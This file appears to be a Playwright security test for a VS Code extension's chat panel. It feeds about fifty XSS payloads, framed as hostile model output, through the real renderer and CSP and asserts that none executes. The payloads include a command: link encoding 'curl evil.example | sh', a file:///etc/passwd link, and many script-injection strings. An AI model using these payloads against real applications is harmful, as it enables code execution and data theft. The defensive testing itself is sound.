// XSS hardening: hostile model output streamed into the REAL panel bundle (dist/webview.js), inside
// the REAL shell from buildWebviewHtml with its real CSP, served over loopback HTTP so that the
// CSP's source and nonce are genuine. Nothing may execute, load, or reach the host unasked.
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { buildWebviewHtml } from '../../src/host/webviewHtml';
import {
  isSafeExternalLink,
  parseWebviewMessage,
  type HostMessage,
  type TurnWire,
  type WebviewMessage,
} from '../../src/shared/protocol';
import { bundleForBrowser, launchChromium, ROOT, VSCODE_STUB } from './harness';

interface Payload {
  readonly name: string;
  readonly text: string;
  /** Link targets as an attacker means them (decoded), beyond those extracted from the text. */
  readonly hrefs?: readonly string[];
}

/** `T` is the tracking server (another origin: the CSP must block it); `S` is the panel's own
 * origin, which the CSP allows, so a fetch from there proves the renderer itself let it through. */
function payloads(T: string, S: string): Payload[] {
  const cmd =
    'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%20%7C%20sh%5Cn%22%7D';
  return [
    { name: 'script tag', text: '<script>window.__pwned=1</script>' },
    { name: 'img onerror', text: '<img src=x onerror="window.__pwned=1">' },
    { name: 'html tracking pixel', text: `<img src="${T}/img-pixel.png"> and <img src="${S}/same-origin-pixel.png">` },
    { name: 'img srcset', text: `<img srcset="${T}/srcset.png 1x, ${S}/srcset-same.png 2x">` },
    { name: 'svg onload', text: '<svg onload="window.__pwned=1"><circle r="10"/></svg>' },
    {
      name: 'svg script and animate',
      text: '<svg><script>window.__pwned=1</script><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>',
    },
    {
      name: 'svg xlink javascript',
      text: '<svg><a xlink:href="javascript:window.__pwned=1"><text y="20">svg link</text></a></svg>',
      hrefs: ['javascript:window.__pwned=1'],
    },
    { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>' },
    { name: 'iframe javascript src', text: '<iframe src="javascript:parent.__pwned=1"></iframe>' },
    {
      name: 'style tag background',
      text: `<style>body{background:url(${T}/style-pixel)} .answer{background:url(${S}/style-same)}</style>`,
    },
    { name: 'style attribute', text: `<div style="background-image:url(${T}/style-attr)">styled</div>` },
    {
      name: 'css import and expression',
      text: `<style>@import url(${T}/import.css);</style><p style="width:expression(window.__pwned=1)">x</p>`,
    },
    { name: 'markdown tracking image', text: `![pixel](${T}/pixel.png) ![same](${S}/md-same.png)` },
    { name: 'markdown image javascript', text: '![x](javascript:window.__pwned=1)' },
    { name: 'markdown javascript link', text: '[click](javascript:window.__pwned=1)' },
    {
      name: 'markdown mixed-case javascript link',
      text: '[click](JaVaScRiPt:window.__pwned=1) [x](javascript://%0Awindow.__pwned=1)',
    },
    {
      name: 'markdown data: link',
      text: '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+) [y](data:text/html,%3Cscript%3Ewindow.__pwned=1%3C/script%3E)',
    },
    { name: 'markdown command: link', text: `[run tests](${cmd})` },
    {
      name: 'markdown vscode: link',
      text: '[x](vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Frepo) [y](vscode-insiders://x)',
    },
    { name: 'markdown file: link', text: '[passwd](file:///etc/passwd) [unc](\\\\evil.example\\share)' },
    { name: 'markdown relative and protocol-relative', text: `[rel](/etc/passwd) [pr](//127.0.0.1/protocol-relative)` },
    {
      name: 'html anchor javascript',
      text: '<a href="javascript:window.__pwned=1">html link</a> <a href="https://example.com" onclick="window.__pwned=1">onclick</a>',
    },
    { name: 'html anchor ping', text: `<a href="${T}/a" ping="${T}/ping">ping</a>` },
    {
      name: 'entity-encoded javascript',
      text: '[x](&#106;avascript:window.__pwned=1) [y](&#x6A;&#x61;vascript&colon;window.__pwned=1)',
      hrefs: ['javascript:window.__pwned=1'],
    },
    {
      name: 'percent and backslash escapes',
      text: '[x](javascript%3Awindow.__pwned=1) [y](java\\script:window.__pwned=1) [z](<javascript:window.__pwned=1>)',
    },
    { name: 'autolinks', text: `<javascript:alert(1)> <${cmd}> <vbscript:msgbox(1)> <data:text/html,x>` },
    {
      name: 'bare-text schemes (linkify)',
      text: `javascript:window.__pwned=1 and ${cmd} and https://example.com/"onmouseover="window.__pwned=1`,
    },
    {
      name: 'reference-style links',
      text: `[click][evil] [run][cmd] ![img][pix]\n\n[evil]: javascript:window.__pwned=1\n[cmd]: ${cmd}\n[pix]: ${T}/ref-pixel.png`,
    },
    {
      name: 'attribute breakout in link',
      text: '[x](https://example.com/"><img src=x onerror=window.__pwned=1>) [y](https://example.com/" onmouseover="window.__pwned=1)',
    },
    { name: 'link text looks safe', text: '[https://example.com](javascript:window.__pwned=1)' },
    { name: 'details ontoggle', text: '<details open ontoggle="window.__pwned=1"><summary>s</summary>x</details>' },
    { name: 'math mXSS', text: '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">' },
    { name: 'noscript mXSS', text: '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">' },
    {
      name: 'comment and CDATA tricks',
      text: '<!--<img src="--><img src=x onerror=window.__pwned=1>--> <![CDATA[><img src=x onerror=window.__pwned=1>]]>',
    },
    {
      name: 'form action',
      text: '<form action="javascript:window.__pwned=1"><button>go</button></form><button formaction="javascript:window.__pwned=1">b</button>',
    },
    { name: 'meta refresh', text: '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">' },
    { name: 'base href', text: `<base href="${T}/">\n\n[rel](x) ![img](pixel.png)` },
    {
      name: 'object data',
      text: `<object data="${T}/object"></object><object data="javascript:window.__pwned=1"></object>`,
    },
    { name: 'embed', text: `<embed src="${T}/embed">` },
    {
      name: 'link stylesheet',
      text: `<link rel="stylesheet" href="${T}/style.css"><link rel="prefetch" href="${T}/prefetch">`,
    },
    {
      name: 'input autofocus onfocus',
      text: '<input autofocus onfocus="window.__pwned=1"><textarea autofocus onfocus="window.__pwned=1"></textarea>',
    },
    {
      name: 'media onerror',
      text: `<video><source onerror="window.__pwned=1"></video><audio src="${T}/audio" onerror="window.__pwned=1"></audio>`,
    },
    {
      name: 'body and marquee handlers',
      text: '<body onload="window.__pwned=1"><marquee onstart="window.__pwned=1">m</marquee><x onclick="window.__pwned=1">click me</x>',
    },
    {
      name: 'template and slot',
      text: '<template><script>window.__pwned=1</script></template><slot onclick="window.__pwned=1">s</slot>',
    },
    {
      name: 'zero-width and lookalike schemes',
      text: '[a](java\u200Bscript:window.__pwned=1) [b](\u200Bjavascript:window.__pwned=1) [c](ｊａｖａｓｃｒｉｐｔ:window.__pwned=1) [d](javascript\u0000:window.__pwned=1) [e](java%09script:window.__pwned=1) [f](ⅽommand:x)',
    },
    {
      name: 'entities as text',
      text: '&lt;img src=x onerror=window.__pwned=1&gt; &#60;script&#62;window.__pwned=1&#60;/script&#62;',
    },
    {
      name: 'HTML inside nested fences',
      text: '````md\n```html\n<script>window.__pwned=1</script>\n<img src=x onerror="window.__pwned=1">\n```\n````\n\n```html\n<svg onload="window.__pwned=1"></svg>\n```',
    },
    { name: 'unclosed fence with HTML', text: '```js\n</code></pre><img src=x onerror="window.__pwned=1">' },
    {
      name: 'fence info string',
      text: '```"><img src=x onerror=window.__pwned=1>\ncode\n```\n\n```javascript onload=window.__pwned=1\nx\n```',
    },
    {
      name: 'table cell HTML and alignment',
      text: '| a | b |\n|:-:|--:|\n| <img src=x onerror="window.__pwned=1"> | [x](javascript:window.__pwned=1) |',
    },
    { name: 'safe https link (control)', text: '[safe](https://example.com/safe) and https://example.org/auto' },
  ];
}

const MARK_START = 'XSSMARKSTART';
const MARK_END = 'XSSMARKEND';
/** Where a chunk boundary hurts most: right after tag, attribute, entity and link punctuation. */
const AWKWARD = new Set(['<', '=', '"', "'", '&', '(', '[', ']', ':', '`', '/', ' ']);

type Split = 'whole' | 'awkward' | 'tiny';

function chunks(text: string, split: Split): string[] {
  if (split === 'whole') return [text];
  const out: string[] = [];
  let start = 0;
  for (let i = 0; i < text.length; i++) {
    const size = i - start + 1;
    const cut = split === 'awkward' ? AWKWARD.has(text[i]!) : size >= 1 + (i % 3);
    if (cut) {
      out.push(text.slice(start, i + 1));
      start = i + 1;
    }
  }
  if (start < text.length) out.push(text.slice(start));
  return out;
}

/** Link targets an attacker would hope the host opens. */
function extractHrefs(payload: Payload): string[] {
  const found = new Set(payload.hrefs ?? []);
  const patterns = [
    /\]\(<?([^)\s>]+)/g,
    /(?:href|src|data|action|formaction|srcdoc)="([^"]*)"/g,
    /<([a-z][a-z0-9+.-]*:[^>\s]*)>/gi,
    /^\[[^\]]+\]: (\S+)/gm,
  ];
  for (const pattern of patterns) for (const match of payload.text.matchAll(pattern)) found.add(match[1]!);
  return [...found];
}

/** Tags and attributes the renderer may produce inside rendered markdown (its sanitizer's lists). */
const MARKDOWN_TAGS = [
  'a',
  'blockquote',
  'br',
  'button',
  'code',
  'del',
  'div',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'span',
  'strong',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
];
const MARKDOWN_ATTRS = [
  'aria-hidden',
  'class',
  'data-action',
  'data-block-index',
  'data-href',
  'data-state',
  'role',
  'start',
  'tabindex',
  'title',
  'type',
];

interface Audit {
  readonly pwned: unknown;
  readonly url: string;
  readonly problems: string[];
}

/** Runs in the page: every way hostile output could have become live DOM. */
function auditPage(args: { tags: string[]; attrs: string[]; scope?: string }): Audit {
  const problems: string[] = [];
  const root: ParentNode = args.scope ? document.querySelector(args.scope)! : document;
  const all = [...root.querySelectorAll('*')];
  const describe = (el: Element) =>
    `<${el.localName}${[...el.attributes].map((a) => ` ${a.name}="${a.value}"`).join('')}>`;
  const transcript = document.querySelector('main.transcript');
  const denied =
    'script,iframe,frame,frameset,object,embed,style,base,meta,form,link,img,picture,source,video,audio,svg,math,input,textarea,select,template,noscript,marquee,slot,body,head,html';
  for (const el of all) {
    for (const attr of [...el.attributes]) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`handler attribute ${describe(el)}`);
      if (name === 'style') problems.push(`style attribute ${describe(el)}`);
      if (
        [
          'href',
          'src',
          'action',
          'formaction',
          'xlink:href',
          'data',
          'srcdoc',
          'poster',
          'background',
          'ping',
          'srcset',
          'data-href',
        ].includes(name)
      ) {
        let protocol = '';
        try {
          protocol = new URL(attr.value, document.baseURI).protocol;
        } catch {
          protocol = 'unparseable';
        }
        const explicit = name !== 'data-href' || /^https?:\/\//i.test(attr.value);
        if ((protocol !== 'http:' && protocol !== 'https:') || !explicit)
          problems.push(`non-http(s) ${name} ${describe(el)}`);
      }
    }
    const inTranscript = !!transcript?.contains(el);
    if (inTranscript && el.matches(denied)) problems.push(`denied element in transcript ${describe(el)}`);
    if (inTranscript && el.localName === 'details' && !el.classList.contains('thinking'))
      problems.push(`foreign details ${describe(el)}`);
    if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`foreign namespace ${describe(el)}`);
    // Rendered model output: only what the sanitizer's allow-lists permit.
    const markdown = el.parentElement?.closest('.markdown');
    if (markdown) {
      if (!args.tags.includes(el.localName)) problems.push(`tag outside the allow-list ${describe(el)}`);
      for (const attr of [...el.attributes])
        if (!args.attrs.includes(attr.name)) problems.push(`attribute outside the allow-list ${describe(el)}`);
    }
  }
  if (!args.scope) {
    // The shell's own elements, and nothing more of their kind anywhere.
    const count = (selector: string) => document.querySelectorAll(selector).length;
    const expected: Record<string, number> = {
      script: 1,
      meta: 3,
      link: 2,
      base: 0,
      style: 0,
      img: 0,
      iframe: 0,
      object: 0,
      embed: 0,
      form: 1,
    };
    for (const [selector, n] of Object.entries(expected))
      if (count(selector) !== n) problems.push(`${count(selector)} <${selector}> elements, expected ${n}`);
  }
  return { pwned: (window as unknown as { __pwned?: unknown }).__pwned, url: location.href, problems };
}

function listen(server: Server): Promise<string> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
  );
}

/** The newest source the panel bundle is built from, to tell whether dist/webview.js is stale. */
function newestSourceMtime(): number {
  let newest = 0;
  for (const dir of ['src/webview', 'src/shared', 'src/core']) {
    for (const name of readdirSync(join(ROOT, dir), { recursive: true })) {
      const path = join(ROOT, dir, String(name));
      if (path.endsWith('.ts')) newest = Math.max(newest, statSync(path).mtimeMs);
    }
  }
  return newest;
}

function turn(id: string, payload: string, patch: Partial<TurnWire> = {}): TurnWire {
  return {
    id,
    question: payload,
    reasoning: '',
    answer: '',
    status: 'streaming',
    modelLabel: 'Test · r1',
    startedAt: 1_000,
    ...patch,
  };
}

describe('XSS: hostile model output in the real panel bundle under the real CSP (Chromium)', () => {
  let browser: Browser;
  let page: Page;
  let appServer: Server;
  let trackServer: Server;
  let appOrigin = '';
  let trackOrigin = '';
  let all: Payload[] = [];
  const appRequests: string[] = [];
  const trackRequests: string[] = [];
  const browserRequests: string[] = [];
  const dialogs: string[] = [];
  const pageErrors: string[] = [];
  // The favicon is Chromium's own request for its tab, made for every page.
  const SHELL_FILES = [
    '/',
    '/dist/webview.js',
    '/dist/codicon.css',
    '/dist/codicon.ttf',
    '/media/webview.css',
    '/favicon.ico',
  ];

  const isShellFile = (url: string) => {
    const parsed = URL.canParse(url) ? new URL(url) : undefined;
    return parsed?.origin === appOrigin && SHELL_FILES.includes(parsed.pathname);
  };

  const send = (messages: HostMessage[]) =>
    page.evaluate((list) => {
      for (const message of list) window.postMessage(message, '*');
    }, messages);
  /** Waits until queued messages are handled and every renderer has flushed. */
  const idle = () =>
    page.waitForFunction(
      () =>
        new Promise<boolean>((resolve) =>
          setTimeout(
            () =>
              requestAnimationFrame(() => requestAnimationFrame(() => resolve(!document.querySelector('[aria-busy]')))),
            0,
          ),
        ),
    );
  const posted = () => page.evaluate(() => (window as unknown as { __posted: WebviewMessage[] }).__posted.slice());
  const cspViolations = () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp.slice());
  const audit = (scope?: string) => page.evaluate(auditPage, { tags: MARKDOWN_TAGS, attrs: MARKDOWN_ATTRS, scope });

  /** Everything that must hold after any payload; `label` names the payload in failures. */
  const assertClean = async (label: string) => {
    const result = await audit();
    assert.equal(result.pwned, undefined, `${label}: the sentinel was set`);
    assert.equal(result.url, `${appOrigin}/`, `${label}: the panel navigated`);
    assert.deepEqual(result.problems, [], `${label}: live DOM from model output`);
    assert.deepEqual(dialogs, [], `${label}: a dialog opened`);
    assert.deepEqual(pageErrors, [], `${label}: page errors`);
    assert.deepEqual(trackRequests, [], `${label}: the tracking server was contacted`);
    assert.deepEqual(
      appRequests.filter((path) => !SHELL_FILES.includes(path)),
      [],
      `${label}: fetched from the panel's own origin`,
    );
    // Every request the page even attempted (CSP-blocked ones included), not just those that arrived.
    assert.deepEqual(
      browserRequests.filter((url) => !isShellFile(url)),
      [],
      `${label}: the page tried to load something`,
    );
    assert.deepEqual(
      await posted(),
      [{ type: 'ready' }],
      `${label}: the panel posted something the user did not trigger`,
    );
    assert.equal(page.context().pages().length, 1, `${label}: a window opened`);
  };

  before(async () => {
    const started = Date.now();
    const distBundle = join(ROOT, 'dist/webview.js');
    const fresh = existsSync(distBundle) && statSync(distBundle).mtimeMs >= newestSourceMtime();
    // A stale or missing dist would test old code: bundle the same entry the same way instead.
    const bundle = fresh ? readFileSync(distBundle, 'utf8') : await bundleForBrowser('src/webview/main.ts');
    if (!fresh)
      console.log(
        '# dist/webview.js missing or older than its sources: testing a fresh in-memory bundle of src/webview/main.ts',
      );
    const nonce = 'xssNonce' + Math.random().toString(36).slice(2);

    trackServer = createServer((request, response) => {
      trackRequests.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'image/png' }).end();
    });
    trackOrigin = await listen(trackServer);
    appServer = createServer((request, response) => {
      const path = new URL(request.url ?? '/', 'http://x').pathname;
      appRequests.push(path);
      const files: Record<string, () => [string, string | Buffer]> = {
        '/': () => [
          'text/html',
          buildWebviewHtml({
            cspSource: appOrigin,
            nonce,
            scriptUri: `${appOrigin}/dist/webview.js`,
            styleUris: [`${appOrigin}/dist/codicon.css`, `${appOrigin}/media/webview.css`],
          }),
        ],
        '/dist/webview.js': () => ['text/javascript', bundle],
        '/dist/codicon.css': () => [
          'text/css',
          readFileSync(join(ROOT, 'node_modules/@vscode/codicons/dist/codicon.css')),
        ],
        '/dist/codicon.ttf': () => [
          'font/ttf',
          readFileSync(join(ROOT, 'node_modules/@vscode/codicons/dist/codicon.ttf')),
        ],
        '/media/webview.css': () => ['text/css', readFileSync(join(ROOT, 'media/webview.css'))],
      };
      const file = files[path];
      if (!file) return void response.writeHead(404).end();
      const [type, body] = file();
      response.writeHead(200, { 'content-type': type }).end(body);
    });
    appOrigin = await listen(appServer);
    all = payloads(trackOrigin, appOrigin);

    browser = await launchChromium();
    const context = await browser.newContext({ viewport: { width: 480, height: 800 } });
    page = await context.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('pageerror', (error) => pageErrors.push(String(error)));
    page.on('request', (request) => browserRequests.push(request.url()));
    // Init scripts run before page scripts whatever the CSP says: the stub, and a CSP witness.
    // tsx compiles with keepNames, so functions handed to page.evaluate may call __name.
    await page.addInitScript(
      'globalThis.__name = (fn) => fn;' +
        VSCODE_STUB +
        "window.__csp = []; document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));",
    );
    await page.goto(`${appOrigin}/`);
    await page.waitForSelector('main.transcript');
    await idle();
    console.log(
      `# ${all.length} payloads; page up in ${Date.now() - started} ms (bundle: ${fresh ? 'dist/webview.js' : 'in-memory'})`,
    );
  });

  after(async () => {
    await browser?.close();
    appServer?.closeAllConnections();
    trackServer?.closeAllConnections();
    await Promise.all([appServer, trackServer].map((server) => new Promise((resolve) => server?.close(resolve))));
  });

  it('runs under the real CSP, and its witnesses can see a breach', async () => {
    const policy = await page.evaluate(() =>
      document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'),
    );
    assert.match(policy ?? '', /default-src 'none'; script-src 'nonce-[A-Za-z0-9]+'/);
    assert.match(policy ?? '', new RegExp(`img-src ${appOrigin.replace(/[.:/]/g, '\\$&')} data:`));
    assert.deepEqual(await posted(), [{ type: 'ready' }], 'the bundle ran under the nonce');
    assert.equal(
      await page.evaluate(() => getComputedStyle(document.querySelector('.transcript')!).overflowY),
      'auto',
      'the stylesheet loaded',
    );

    // The tracking server records what reaches it...
    await fetch(`${trackOrigin}/self-check`);
    assert.deepEqual(trackRequests.splice(0), ['/self-check']);
    // ...the CSP blocks an image from it and reports that...
    const canaryUrl = `${trackOrigin}/csp-canary.png`;
    await page.evaluate((src) => {
      const image = document.createElement('img');
      image.src = src;
      document.body.append(image);
    }, canaryUrl);
    await page.waitForFunction(() => (window as unknown as { __csp: string[] }).__csp.length > 0);
    assert.deepEqual(await cspViolations(), [`img-src ${canaryUrl}`]);
    // ...an inline script (injected the way a sanitizer bug would) is refused...
    await page.evaluate(() => {
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="x:y" onerror="window.__pwned = 1">';
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = 2';
      document.body.append(holder, script);
    });
    await page.waitForFunction(() => (window as unknown as { __csp: string[] }).__csp.length >= 4);
    assert.deepEqual((await cspViolations()).slice(1).sort(), [
      'img-src x',
      'script-src-attr inline',
      'script-src-elem inline',
    ]);
    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
    // ...and the DOM audit flags all of it.
    const flagged = (await audit()).problems.join('\n');
    for (const needle of [
      'handler attribute <img',
      'non-http(s) src <img src="x:y"',
      '2 <img> elements',
      '2 <script> elements',
    ]) {
      assert.ok(flagged.includes(needle), `audit missed "${needle}" in:\n${flagged}`);
    }
    await page.evaluate(() => {
      document
        .querySelectorAll('body > img, body > div:not(#app), body > script:not([nonce])')
        .forEach((node) => node.remove());
      (window as unknown as { __csp: string[] }).__csp.length = 0;
    });
    assert.equal(trackRequests.length, 0, 'the CSP kept the canary from loading');
    // The browser-side witness saw both attempts even though nothing was fetched.
    assert.deepEqual(
      browserRequests.filter((url) => !isShellFile(url)),
      [canaryUrl, 'x:y'],
    );
    browserRequests.length = 0;
    await assertClean('after the self-check');
  });

  for (const split of ['whole', 'awkward', 'tiny'] as const) {
    it(`streams every payload as reasoning and as answer, ${split === 'whole' ? 'in one chunk' : `split ${split}`}; none comes alive`, async () => {
      for (const [index, payload] of all.entries()) {
        const id = `${split}-${index}`;
        const text = `${MARK_START}\n\n${payload.text}\n\n${MARK_END}`;
        const pieces = chunks(text, split);
        assert.equal(pieces.join(''), text);
        const messages: HostMessage[] = [
          // The question, title and model label carry the payload too: they are shown as text.
          {
            type: 'turnStarted',
            turn: turn(
              id,
              payload.text,
              split === 'awkward' ? { title: payload.text } : split === 'tiny' ? { modelLabel: payload.text } : {},
            ),
          },
          ...pieces.map((piece): HostMessage => ({
            type: 'delta',
            turnId: id,
            reasoning: piece,
            answer: '',
            at: 2_000,
          })),
          ...pieces.map((piece): HostMessage => ({
            type: 'delta',
            turnId: id,
            reasoning: '',
            answer: piece,
            at: 3_000,
          })),
          { type: 'notice', turnId: id, notice: payload.text },
          {
            type: 'turnEnded',
            turnId: id,
            status: split === 'whole' ? 'error' : 'done',
            at: 4_000,
            ...(split === 'whole' ? { error: { message: payload.text, actions: [] } } : {}),
          },
        ];
        await send(messages);
        await idle();
        // Proof the payload was rendered at all: both markers in both views, the payload's text shown.
        const shown = await page.evaluate((turnId) => {
          const root = document.querySelector(`[data-turn-id="${turnId}"]`);
          const text = (selector: string) => root?.querySelector(selector)?.textContent ?? '';
          return {
            reasoning: text('[data-testid="thinking-body"]'),
            answer: text('[data-testid="answer"]'),
            question: text('.question-text'),
            error: text('.error-message'),
          };
        }, id);
        for (const view of ['reasoning', 'answer'] as const) {
          assert.ok(
            shown[view].includes(MARK_START) && shown[view].includes(MARK_END),
            `${payload.name} (${split}): ${view} not rendered: ${shown[view]}`,
          );
        }
        assert.equal(shown.question, payload.text, `${payload.name} (${split}): question shown as text`);
        if (split === 'whole') assert.equal(shown.error, payload.text, `${payload.name}: error shown as text`);
        await assertClean(`${payload.name} (${split})`);
      }
      assert.deepEqual(await cspViolations(), [], 'nothing even reached the CSP: the renderer stopped it all');
    });
  }

  it('renders HTML inside code blocks as text', async () => {
    const code = await page.evaluate(() =>
      [...document.querySelectorAll('[data-turn-id^="whole-"] [data-testid="answer"] pre code')].map(
        (node) => node.textContent ?? '',
      ),
    );
    assert.ok(
      code.some((text) => text.includes('<script>window.__pwned=1</script>')),
      'nested fence content',
    );
    assert.ok(
      code.some((text) => text.includes('<svg onload="window.__pwned=1"></svg>')),
      'highlighted html fence',
    );
    assert.ok(
      code.some((text) => text.includes('</code></pre><img src=x onerror="window.__pwned=1">')),
      'unclosed fence',
    );
  });

  it('restores every payload from state, with HTML in errors, proposals and labels; none comes alive', async () => {
    const turns = all.map((payload, index) =>
      turn(`state-${index}`, payload.text, {
        title: index % 2 ? payload.text : undefined,
        reasoning: payload.text,
        answer: payload.text,
        status: 'error',
        modelLabel: payload.text,
        error: {
          message: payload.text,
          actions: [{ kind: 'openUrl', url: 'https://example.com/help', label: payload.text }],
        },
      }),
    );
    await send([{ type: 'state', conversation: { turns, busy: false } }]);
    await send([
      ...all.map((payload, index): HostMessage => ({
        type: 'editProposal',
        turnId: `state-${index}`,
        proposal: {
          id: `p${index}`,
          target: payload.text,
          state: index % 2 ? 'pending' : 'refused',
          message: payload.text,
        },
      })),
      {
        type: 'modelSources',
        defaultSource: 'cloud',
        cloudLabel: all[0]!.text,
        localLabel: all[1]!.text,
        collapseThinking: true,
      },
      { type: 'setInput', text: all[2]!.text },
    ]);
    await idle();
    assert.equal(await page.evaluate(() => document.querySelectorAll('[data-turn-id^="state-"]').length), all.length);
    assert.equal(await page.evaluate(() => document.querySelector('textarea')!.value), all[2]!.text);
    await assertClean('restored from state');
    assert.deepEqual(await cspViolations(), []);
  });

  it('clicking anything in rendered output posts only openLink with an http(s) href, once per click', async () => {
    const clicks = await page.evaluate(() => {
      const out: { target: string; href: string | null; posts: unknown[] }[] = [];
      const log = (window as unknown as { __posted: unknown[] }).__posted;
      // Everything a user could click in model output, except the code-block buttons (covered by panel.test.ts).
      for (const el of document.querySelectorAll<HTMLElement>(
        '.markdown *, .question-text, .error-message, .proposal-text',
      )) {
        if (el.closest('button')) continue;
        const before = log.length;
        el.click();
        out.push({
          target: el.localName,
          href: el.closest('[data-href]')?.getAttribute('data-href') ?? null,
          posts: log.splice(before),
        });
      }
      return out;
    });
    assert.ok(clicks.length > 500, `clicked ${clicks.length} elements`);
    let links = 0;
    for (const click of clicks) {
      if (click.href === null) {
        assert.deepEqual(click.posts, [], `a click on <${click.target}> outside any link posted`);
        continue;
      }
      links++;
      assert.deepEqual(click.posts, [{ type: 'openLink', href: click.href }]);
      const message = parseWebviewMessage(click.posts[0]);
      assert.ok(message?.type === 'openLink' && isSafeExternalLink(message.href), `the host would open ${click.href}`);
      assert.match(click.href, /^https?:\/\//i);
    }
    assert.ok(links > 0, 'some safe links rendered as links');
    assert.deepEqual(await posted(), [{ type: 'ready' }]);
    await assertClean('after clicking everything');
  });

  it('a user click on a javascript:/command: link posts nothing; on an https link, exactly one openLink', async () => {
    const cmd = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D';
    const answer = [
      '[click-js](javascript:window.__pwned=1)',
      `[click-cmd](${cmd})`,
      '<a href="javascript:window.__pwned=1">click-html</a>',
      `<${cmd}>`,
      '[click-safe](https://example.com/safe)',
    ].join('\n\n');
    await send([
      { type: 'state', conversation: { turns: [], busy: false } },
      { type: 'turnStarted', turn: turn('clicks', 'clicks') },
      { type: 'delta', turnId: 'clicks', reasoning: '', answer, at: 2_000 },
      { type: 'turnEnded', turnId: 'clicks', status: 'done', at: 3_000 },
    ]);
    await idle();
    const answerBox = page.locator('[data-turn-id="clicks"] [data-testid="answer"]');
    for (const label of ['click-js', 'click-cmd', 'click-html', '<command:']) {
      const paragraph = answerBox.locator('p', { hasText: label });
      assert.equal(await paragraph.count(), 1, label);
      assert.equal(await paragraph.locator('a, [data-href], [role="link"]').count(), 0, `${label} is not a link`);
      await paragraph.click();
    }
    assert.deepEqual(await posted(), [{ type: 'ready' }], 'dangerous links post nothing when clicked');

    await answerBox.getByText('click-safe').click();
    assert.deepEqual(await posted(), [{ type: 'ready' }, { type: 'openLink', href: 'https://example.com/safe' }]);
    await page.evaluate(() => (window as unknown as { __posted: unknown[] }).__posted.splice(1));
    await assertClean('after user clicks');
  });

  it('the host refuses every non-http(s) href a payload carries (isSafeExternalLink)', () => {
    let refused = 0;
    let allowed = 0;
    for (const payload of all) {
      for (const href of extractHrefs(payload)) {
        const explicitHttp = /^https?:\/\//i.test(href);
        assert.equal(isSafeExternalLink(href), explicitHttp, `${payload.name}: ${href}`);
        const message = parseWebviewMessage({ type: 'openLink', href });
        assert.ok(message?.type === 'openLink' && isSafeExternalLink(message.href) === explicitHttp, href);
        if (explicitHttp) allowed++;
        else refused++;
      }
    }
    for (const href of [
      'command:workbench.action.terminal.sendSequence',
      'javascript:alert(1)',
      ' javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      'vscode://x',
      'file:///etc/passwd',
      'data:text/html,x',
      '\u200Bhttps://example.com',
      'ｈｔｔｐｓ://example.com',
    ]) {
      assert.equal(isSafeExternalLink(href), false, href);
    }
    assert.ok(refused >= 40, `${refused} hostile hrefs checked`);
    assert.ok(allowed > 0);
  });
});
